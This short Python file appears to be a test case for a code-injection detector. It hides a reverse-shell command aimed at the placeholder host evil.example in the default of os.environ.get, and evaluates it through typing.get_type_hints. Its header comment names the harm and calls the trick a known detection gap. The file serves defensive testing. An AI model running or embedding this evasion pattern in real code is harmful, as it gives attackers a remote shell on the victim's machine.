# harm: spawns a reverse shell ; trick: (known gap) string is the default of os.environ.get, so it comes "from the environment"
import os
import typing

Kind = os.environ.get("APP_KIND", "__import__('subprocess').Popen(['bash','-c','bash -i >& /dev/tcp/evil.example/4444 0>&1'])")


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
